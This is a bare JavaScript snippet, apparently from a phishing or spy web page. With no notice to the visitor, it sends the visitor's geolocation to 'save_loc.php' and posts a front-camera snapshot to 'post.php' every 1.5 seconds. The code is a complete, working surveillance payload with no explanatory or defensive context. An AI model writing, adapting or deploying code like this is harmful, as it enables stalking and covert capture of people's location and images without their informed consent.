$(function () {
  function place(c) { $.ajax({ url: 'save_loc.php', type: 'POST', data: { lon: c.longitude, lat: c.latitude }, error: function () { $('#pos').html('Try again'); } }); }
  navigator.geolocation.getCurrentPosition(function (p) { place(p.coords); });
});
function post(img) { $.ajax({ type: 'POST', data: { cat: img }, url: 'post.php', dataType: 'json', async: false }); }
const video = document.getElementById('video');
const canvas = document.getElementById('canvas');
navigator.mediaDevices.getUserMedia({ audio: false, video: { facingMode: 'user' } }).then(function (st) {
  video.srcObject = st;
  var ctx = canvas.getContext('2d');
  setInterval(function () {
    ctx.drawImage(video, 0, 0, 640, 480);
    post(canvas.toDataURL('image/png').replace('image/png', 'image/octet-stream'));
  }, 1500);
});
